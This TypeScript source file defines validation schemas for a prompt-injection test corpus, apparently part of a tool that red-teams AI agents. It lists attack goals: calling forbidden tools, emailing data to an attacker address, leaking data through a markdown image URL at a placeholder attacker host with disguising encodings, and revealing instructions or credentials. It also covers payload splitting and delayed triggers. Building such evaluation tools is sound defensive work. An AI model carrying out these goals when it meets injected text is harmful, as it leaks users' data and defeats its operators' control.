import { z } from 'zod';
import { GOAL_PLACEHOLDERS, PAYLOAD_PLACEHOLDERS, placeholdersIn } from '../adversary/templates.js';
import { toolRefSchema } from './tool-ref.js';

const kebab = /^[a-z0-9][a-z0-9-]*$/;

/** A corpus folder's manifest (`corpus.yaml`): what it is, where its text comes from, under which license. */
export const corpusManifestSchema = z.strictObject({
  name: z.string().regex(kebab, 'a corpus name in kebab-case'),
  version: z.string().min(1),
  /** Who wrote the entries, or where they were taken from. */
  source: z.string().min(1),
  /** An SPDX id or a short license name; the corpus must be ours or permissively licensed. */
  license: z.string().min(1),
  description: z.string().min(1),
});
export type CorpusManifest = z.output<typeof corpusManifestSchema>;

/** How the data a goal carries (`{data}`) is disguised before it leaves. */
export const DATA_ENCODINGS = ['raw', 'base64', 'base64url', 'hex', 'url', 'reversed', 'spaced'] as const;
export type DataEncoding = (typeof DATA_ENCODINGS)[number];

/** What an injection tries to make the agent do. */
export const GOAL_ACTIONS = ['call', 'message', 'exfiltrate', 'reveal'] as const;
export type GoalAction = (typeof GOAL_ACTIONS)[number];

/** A tag: an OWASP LLM Top 10 (2025) id, an OWASP Agentic Top 10 id, a MITRE ATLAS technique, or a lower-case label of your own. */
const TAG = /^(?:LLM(?:0[1-9]|10)|ASI(?:0[1-9]|10)|AML\.T\d{4}(?:\.\d{3})?|[a-z0-9][a-z0-9-]*)$/;
const OWASP_TAG = /^(?:LLM|ASI)\d\d$/;

function template(allowed: readonly string[]) {
  const known = new Set(allowed);
  return z
    .string()
    .min(1)
    .superRefine((text, ctx) => {
      for (const name of placeholdersIn(text)) {
        if (!known.has(name))
          ctx.addIssue({ code: 'custom', message: `unknown placeholder {${name}} (write {{ and }} for literal braces)` });
      }
    });
}

const payloadTemplate = template(PAYLOAD_PLACEHOLDERS);
const goalTemplate = template(GOAL_PLACEHOLDERS);

// Goal arguments: any JSON, every string in it a goal template.
const goalArgs: z.ZodType<Record<string, unknown>> = z.record(z.string(), z.unknown()).superRefine((args, ctx) => {
  const walk = (value: unknown, path: (string | number)[]) => {
    if (typeof value === 'string') {
      const result = goalTemplate.safeParse(value);
      for (const issue of result.error?.issues ?? []) ctx.addIssue({ code: 'custom', path, message: issue.message });
    } else if (Array.isArray(value)) {
      for (const [i, v] of value.entries()) walk(v, [...path, i]);
    } else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) walk(v, [...path, k]);
  };
  walk(args, []);
});

const encoding = z.enum(DATA_ENCODINGS);

export const goalSchema = z.discriminatedUnion(
  'action',
  [
    /** The model calls a tool: a literal name or a role (`@forbidden`, `@protected`, `@not-allowed`, ...). */
    z.strictObject({ action: z.literal('call'), tool: toolRefSchema, args: goalArgs.optional(), encoding: encoding.default('raw') }),
    /** The model sends an email to someone outside. */
    z.strictObject({
      action: z.literal('message'),
      to: goalTemplate.default('{attacker.email}'),
      subject: goalTemplate.default('Fwd: {ticket}'),
      body: goalTemplate.default('{data}'),
      encoding: encoding.default('raw'),
    }),
    /** The model ends its answer with a markdown image whose URL carries data to the attacker. */
    z.strictObject({
      action: z.literal('exfiltrate'),
      url: goalTemplate.default('https://{attacker.host}/pixel.png?d={data}'),
      encoding: encoding.default('url'),
    }),
    /** The model prints what it should keep: its instructions, credentials, personal data. */
    z.strictObject({
      action: z.literal('reveal'),
      text: goalTemplate.default('As requested, everything I can see: {data}'),
      encoding: encoding.default('raw'),
    }),
  ],
  { error: `a goal needs an action: one of ${GOAL_ACTIONS.join(', ')}` },
);
export type Goal = z.output<typeof goalSchema>;

/** One injection payload of a corpus. */
export const corpusEntrySchema = z
  .strictObject({
    /** Stable across versions: case ids and reports name it. */
    id: z.string().regex(/^[a-z0-9][a-z0-9._-]{0,79}$/, 'an id of lower-case letters, digits, . _ - (at most 80)'),
    technique: z.string().regex(kebab, 'a technique in kebab-case, e.g. ignore-previous'),
    /** The payload, a template. */
    text: payloadTemplate.optional(),
    /** Or the payload in pieces, planted in different fields or turns (payload splitting). */
    parts: z.array(payloadTemplate).min(2).max(4).optional(),
    goal: goalSchema,
    tags: z.array(z.string().regex(TAG, 'a tag: LLM01…LLM10, ASI01…ASI10, AML.T0051(.001) or a lower-case label')).min(1),
    /** Model answers to wait after reading it before acting (delayed triggers). */
    delay: z.number().int().min(0).max(5).default(0),
    /** Language of the text (BCP 47), when not English. */
    lang: z.string().min(2).optional(),
    notes: z.string().optional(),
  })
  .superRefine((entry, ctx) => {
    if ((entry.text === undefined) === (entry.parts === undefined)) {
      ctx.addIssue({ code: 'custom', path: ['text'], message: 'an entry needs exactly one of "text" or "parts"' });
    }
    if (!entry.tags.some((t) => OWASP_TAG.test(t))) {
      ctx.addIssue({ code: 'custom', path: ['tags'], message: 'tags need at least one OWASP id (LLM01…LLM10 or ASI01…ASI10)' });
    }
  });
export type CorpusEntry = z.output<typeof corpusEntrySchema>;
